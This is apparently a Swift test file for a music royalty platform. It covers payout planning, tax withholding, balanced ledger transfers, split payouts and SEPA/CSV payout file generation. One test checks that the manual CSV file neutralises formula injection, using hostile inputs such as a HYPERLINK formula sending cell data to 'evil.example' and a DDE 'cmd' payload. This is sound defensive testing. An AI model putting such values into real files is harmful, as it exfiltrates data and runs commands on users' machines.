import Foundation
import Ledger
import Testing
import TestSupport
@testable import Royalty

/// Planning a payout run: who is paid, who is skipped and why, the withholding, and the transfers of each step.
@Suite struct PayoutRunTests {
    static let rates = try! TaxRates(csv: "country,rate_percent,source\nUS,30,irs\nFR,12.8,dgfip\nJP,20.42,nta\nDE,,unset\nXX,100,all\n")
    static let eur = try! Currency("EUR")
    static let run = PayoutRun.ID(month: Month("2026-11")!, currency: eur)

    static func settings(_ country: String, minimum: Int64 = 1_000, currency: String = "EUR", sepa: Bool = true) throws -> PayoutSettings {
        try PayoutSettings(method: sepa ? .sepa(iban: try IBAN("DE89370400440532013000"), bic: nil) : .manual(reference: "USDC 0xabc, memo \"nov\""),
                           accountName: "Luna Díaz", minimum: minimum, currency: try Currency(currency), taxCountry: country)
    }

    @Test func eligibleArtistsArePaidTheirBalanceLessTax() throws {
        let candidates = [
            PayoutRun.Candidate(artist: "zed", balance: 10_001, settings: try Self.settings("FR")),
            PayoutRun.Candidate(artist: "amy", balance: 5_000, settings: try Self.settings("US", sepa: false)),
            PayoutRun.Candidate(artist: "bob", balance: 999, settings: try Self.settings("US")),
            PayoutRun.Candidate(artist: "cat", balance: 5_000, settings: nil),
            PayoutRun.Candidate(artist: "dan", balance: 5_000, settings: try Self.settings("DE")),
            PayoutRun.Candidate(artist: "eve", balance: 5_000, settings: try Self.settings("US", currency: "USD", sepa: false)),
            PayoutRun.Candidate(artist: "fay", balance: 5_000, settings: try Self.settings("XX")),
            PayoutRun.Candidate(artist: "gus", balance: 0, settings: try Self.settings("US")),
            PayoutRun.Candidate(artist: "hal", balance: 1_000, settings: try Self.settings("JP")),
        ]
        let plan = PayoutRun.plan(currency: Self.eur, candidates: candidates, rates: Self.rates)
        #expect(plan.payouts.map(\.artist) == ["amy", "hal", "zed"])
        // 30 % of 5,000 = 1,500; 20.42 % of 1,000 = 204.2 → 204; 12.8 % of 10,001 = 1,280.128 → 1,280.
        #expect(plan.payouts.map(\.withheld) == [1_500, 204, 1_280])
        #expect(plan.payouts.map(\.net) == [3_500, 796, 8_721])
        #expect(plan.payouts.allSatisfy { $0.net + $0.withheld == $0.gross })
        #expect(plan.skipped.map(\.artist) == ["bob", "cat", "dan", "eve", "fay"])
        #expect(plan.skipped.map(\.reason) == [.belowMinimum(1_000), .noPayoutSettings, .noTaxRate("DE"), .otherCurrency("USD"), .nothingAfterTax])
        // The same inputs in another order make the same plan.
        #expect(PayoutRun.plan(currency: Self.eur, candidates: candidates.reversed(), rates: Self.rates) == plan)
    }

    @Test func eachStepIsABalancedTransferUnderItsOwnKey() throws {
        let payout = PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "luna", balance: 10_001, settings: try Self.settings("FR"))],
                                    rates: Self.rates).payouts[0]
        let paid = try PayoutRun.transfers(payout, run: Self.run)[0]
        #expect(paid.idempotencyKey == "payout:2026-11:EUR:luna" && paid.kind == .payout)
        #expect(paid.postings.map { "\($0.side) \($0.account) \($0.amount)" }
                == ["debit artist/luna/EUR 10001", "credit payouts/in-flight/EUR 8721", "credit tax/FR/EUR 1280"])
        let confirmed = try PayoutRun.confirmations(payout, run: Self.run)[0]
        #expect(confirmed.idempotencyKey == "payout-confirm:2026-11:EUR:luna")
        #expect(confirmed.postings.map { "\($0.side) \($0.account) \($0.amount)" } == ["debit payouts/in-flight/EUR 8721", "credit external/sepa/EUR 8721"])
        let failed = try PayoutRun.failures(payout, run: Self.run)[0]
        #expect(failed.idempotencyKey == "payout-fail:2026-11:EUR:luna")
        #expect(failed.postings.map { "\($0.side) \($0.account) \($0.amount)" }
                == ["debit payouts/in-flight/EUR 8721", "credit artist/luna/EUR 10001", "debit tax/FR/EUR 1280"])
        // Run ids parse back; anything else does not.
        #expect(PayoutRun.ID("2026-11-EUR") == Self.run && Self.run.description == "2026-11-EUR")
        for bad in ["2026-11", "2026-13-EUR", "2026-11-XYZ", "2026-11_EUR", "2026-11-EURO", "1999-12-EUR"] { #expect(PayoutRun.ID(bad) == nil, "\(bad)") }
    }

    /// Issue 24: a gross one posting cannot carry made no transfer at all; it is paid in parts, each within the limit.
    @Test func aGrossAboveThePostingLimitIsPaidInExactParts() throws {
        let limit = Currency.maximumMinorUnits
        for gross in [limit, limit + 1, 9 * (limit - 1), 9 * limit + 7, Int64.max] {
            let payout = try #require(PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "luna", balance: gross,
                                                                                                            settings: try Self.settings("JP"))],
                                                     rates: Self.rates).payouts.first)
            let parts = PayoutRun.parts(payout)
            #expect(parts.count == (gross <= limit ? 1 : Int(gross / (limit - 1) + 1)), "\(gross)")
            #expect(parts.allSatisfy { $0.gross <= limit && $0.gross == $0.net + $0.withheld && $0.net > 0 }, "\(gross)")
            #expect(parts.map(\.gross).checkedSum == gross && parts.map(\.withheld).checkedSum == payout.withheld, "\(gross)")
            #expect(parts.map(\.number) == Array(1...parts.count))
            for transfers in [try PayoutRun.transfers(payout, run: Self.run), try PayoutRun.confirmations(payout, run: Self.run),
                              try PayoutRun.failures(payout, run: Self.run)] {
                #expect(transfers.count == parts.count && Set(transfers.map(\.idempotencyKey)).count == parts.count)
            }
            let keys = try PayoutRun.transfers(payout, run: Self.run).map(\.idempotencyKey)
            #expect(keys.first == "payout:2026-11:EUR:luna" && (parts.count == 1 || keys[1] == "payout:2026-11:EUR:luna:2"))
            #expect(PayoutRun.settlementKeys(ofPayoutKey: keys.last!)?.failure == PayoutRun.failureKey(Self.run, artist: "luna", part: parts.count))
        }
    }

    @Test func theFilesListEachPayoutOnce() throws {
        let candidates = [
            PayoutRun.Candidate(artist: "amy", balance: 5_000, settings: try Self.settings("US", sepa: false)),
            PayoutRun.Candidate(artist: "luna", balance: 10_001, settings: try Self.settings("FR")),
        ]
        let numbered = PayoutRun.plan(currency: Self.eur, candidates: candidates, rates: Self.rates).payouts.enumerated().map { (number: $0.offset + 1, payout: $0.element) }
        let debtor = SEPACreditTransfer.Account(name: "Artist First Streaming B.V.", iban: try IBAN("NL91ABNA0417164300"), bic: "ABNANL2A")
        let xml = try SEPAPayoutFile.file(run: Self.run, payouts: numbered.filter { $0.payout.method.name == "sepa" }, createdAt: 1_796_000_000, debtor: debtor)
        #expect(xml.contains("<MsgId>EDGENODE-2026-11-EUR</MsgId>") && xml.contains("<EndToEndId>2026-11-EUR-2</EndToEndId>")
                && xml.contains(#"<InstdAmt Ccy="EUR">87.21</InstdAmt>"#) && xml.contains("<NbOfTxs>1</NbOfTxs>"))
        #expect(FileManager.default.fileExists(atPath: PainSchema.path), "run scripts/fetch-pain-xsd.sh (make test does)")
        let verdict = try PainSchema.validate(xml)
        #expect(verdict.status == 0, "\(verdict.output)")
        #expect(throws: PayoutFileError.self) { try SEPAPayoutFile.file(run: Self.run, payouts: numbered, createdAt: 0, debtor: debtor) }
        #expect(throws: PayoutFileError.self) { try SEPAPayoutFile.file(run: Self.run, payouts: [numbered[1]], createdAt: 0, debtor: nil) }
        let csv = try ManualPayoutFile.file(run: Self.run, payouts: numbered.filter { $0.payout.method.name == "csv" }, createdAt: 0, debtor: nil)
        #expect(csv == ManualPayoutFile.header + "\r\n" + #"2026-11-EUR,1,amy,Luna Díaz,"USDC 0xabc, memo ""nov""",EUR,35.00,3500,1500,US"# + "\r\n")
        let rows = CSV.lines(csv).dropFirst().filter { !$0.isEmpty }.map(CSV.fields)
        #expect(rows.first?[4] == #"USDC 0xabc, memo "nov""#, "the quoted cell reads back")
    }

    /// Issue 24: a reference `=HYPERLINK(…)` or an account name `@SUM(A1)` was written verbatim, and a spreadsheet
    /// opening the payout file ran it.
    @Test func theManualFileNeutralisesFormulas() throws {
        let cases = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "@SUM(A1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "\tTAB", "'=already quoted"]
        for (index, text) in cases.enumerated() {
            let settings = try PayoutSettings(method: .manual(reference: text), accountName: text, minimum: 1, currency: Self.eur, taxCountry: "US")
            let payout = try #require(PayoutRun.plan(currency: Self.eur, candidates: [PayoutRun.Candidate(artist: "amy", balance: 5_000, settings: settings)],
                                                     rates: Self.rates).payouts.first)
            let csv = try ManualPayoutFile.file(run: Self.run, payouts: [(number: 1, payout: payout)], createdAt: 0, debtor: nil)
            func neutralised(_ text: String) -> String { "\"'" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
            let line = String(csv.dropFirst(ManualPayoutFile.header.count + 1))
            #expect(line == "2026-11-EUR,1,amy,\(neutralised(text)),\(neutralised(text)),EUR,35.00,3500,1500,US\r\n",
                    "case \(index): \(line)")
            #expect(csv.hasPrefix(ManualPayoutFile.header + "\r\n"))
            let cells = CSV.fields(CSV.lines(line)[0])
            #expect(cells[3] == "'" + text && cells[4] == "'" + text, "case \(index): a spreadsheet shows the text")
            #expect(CSVCell.decode(cells[4]) == text, "case \(index): reading it back is exact")
        }
    }
}
